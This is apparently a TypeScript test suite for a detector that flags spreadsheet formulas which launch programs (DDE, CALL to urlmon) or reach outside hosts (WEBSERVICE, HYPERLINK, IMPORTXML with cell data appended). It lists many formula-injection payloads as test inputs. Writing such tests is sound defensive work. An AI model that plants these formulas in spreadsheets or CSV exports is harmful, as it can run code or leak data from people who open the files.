import { describe, expect, test } from 'vitest'
import { activeCells } from '#read/attachments/active-formulas.ts'
import { stepsOf } from '../../support/steps.ts'

const found = (text: string): string[] => activeCells(text).map(({ what, of }) => `${what}${of}`)

const command = '会启动其他程序的公式（DDE）'
const network = '会连到别处的公式'

describe('a cell that starts another program is found', () => {
  test.each([
    "=cmd|' /C calc'!A0",
    "=1+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "\t=cmd|' /C calc'!A0",
    "  =cmd|' /C calc'!A0",
    "=MSEXCEL|'\\..\\..\\Windows\\System32\\cmd.exe /c calc'!''",
    '=cmd|/c!A0',
    '"=cmd|\'/c calc, x\'!A0"',
    "=1+'cmd'|'/c calc'!A0",
    '=DDE("cmd";"/C calc";"x")',
    "＝cmd｜'/c calc'！A0",
  ])('%s', (cell) => {
    for (const text of [cell, `名称\n${cell}\n`, `1,${cell},2`, `1\r${cell}`, `1;${cell}`])
      expect(found(text)).toEqual([command])
  })
})

test('a delimiter in quotes belongs to the formula', () => {
  expect(found('1,"=cmd|\'/c a,b;c\'!A0",2')).toEqual([command])
})

test('the delimiter named by the first line separates cells too', () => {
  expect(found('sep=|\n甲|=WEBSERVICE("https://example.com/")|乙\n')).toEqual([
    '会连到别处的公式WEBSERVICE',
  ])
})

describe('a cell that connects elsewhere is found with the function', () => {
  test.each([
    ['=WEBSERVICE("https://example.com/?"&A1)', 'WEBSERVICE'],
    ['=_xlfn.WEBSERVICE("https://example.com/")', 'WEBSERVICE'],
    ['=HYPERLINK("https://example.com/?"&A1,"点")', 'HYPERLINK'],
    ['"=HYPERLINK(""https://example.com/?""&A1,""点"")"', 'HYPERLINK'],
    ['=IMPORTXML(CONCAT("https://example.com/?",A1),"//a")', 'IMPORTXML'],
    ['=if(1,importdata("https://example.com/"))', 'IMPORTDATA'],
    ['+IMAGE ("https://example.com/a.png")', 'IMAGE'],
  ])('%s', (cell, name) => {
    expect(found(`名称,数量\n${cell},1\n`)).toEqual([`${network}${name}`])
  })

  test.each([
    String.raw`='\\host\share\[a.xlsx]S'!A1`,
    String.raw`=\\host\share\a.xlsx!A1`,
    "='http://example.com/[a.xlsx]S'!A1",
    "=SUM(1,'https://example.com/[a.xlsx]S'!A1)",
    "='https://example.com/a.xlsx'#$S.A1",
    '"=INDIRECT(""\'http://example.com/[a.xlsx]S\'!A1"")"',
    '\u200b=WEBSERVICE("https://example.com/")',
    '"=WEBSERVICE\n(""https://example.com/"")"',
  ])('a place in a workbook elsewhere, or hidden blanks: %j', (cell) => {
    expect(activeCells(`名称,数量\n${cell},1\n`).map(({ what }) => what)).toEqual([network])
  })

  test('a formula that calls a system library starts a program', () => {
    expect(found('=CALL("urlmon","URLDownloadToFileA","JJCCJJ",0)')).toEqual([
      '会启动其他程序的公式CALL',
    ])
  })
})

test.each([
  '-5,+8%,-0.3,+86 831 1234567',
  '=SUM(A1:A9),=A1&"|"&B1&"!"',
  '=IF(A1="a|b!c",1,2)',
  '-5|-6|紧急!',
  '-网站a|微信号!',
  '-网站a|微信号!请更正',
  '-app|微信号!',
  "'=cmd|'/c calc'!A0",
  "说明：=cmd|'/c calc'!A0",
  '=HYPERLINK("#目录!A1","回目录")',
  '网址，见 HYPERLINK("https://example.com/")',
  '@某单位,- 一项',
  '=MYIMAGE(1)',
])('%s is computed or read, and nothing else', (text) => {
  expect(found(text)).toEqual([])
})

test('of several cells each is found once', () => {
  const cell = "=cmd|'/c calc'!A0"
  expect(found(`${cell},${cell}\n${cell};1\n`)).toHaveLength(3)
})

test.each([
  ['cells without end', (n: number) => `|${'=a,'.repeat(n)}`],
  ['one long word', (n: number) => `=|${'a'.repeat(n)}`],
  ['signs that part cells', (n: number) => `=|${',;\t'.repeat(n)}`],
  ['quotes that do not close', (n: number) => `|\n${'"a,'.repeat(n)}`],
  ['doubled quotes', (n: number) => `|\n${'"",'.repeat(n)}"${'""'.repeat(n)}`],
  ['places elsewhere', (n: number) => `='http://${"'http://".repeat(n)}`],
  ['brackets before places elsewhere', (n: number) => `=${'[http://'.repeat(n)}`],
  ['names of programs', (n: number) => `=${'a|'.repeat(n)}`],
  ['blanks', (n: number) => `|\n${' '.repeat(n)}=`],
])('the steps for %s grow in proportion to the text', async (_what, make) => {
  const [small = 0, large = 0] = [
    await stepsOf(() => activeCells(make(2_000))),
    await stepsOf(() => activeCells(make(4_000))),
  ]
  expect(large).toBeLessThan(small * 2 + 200)
})
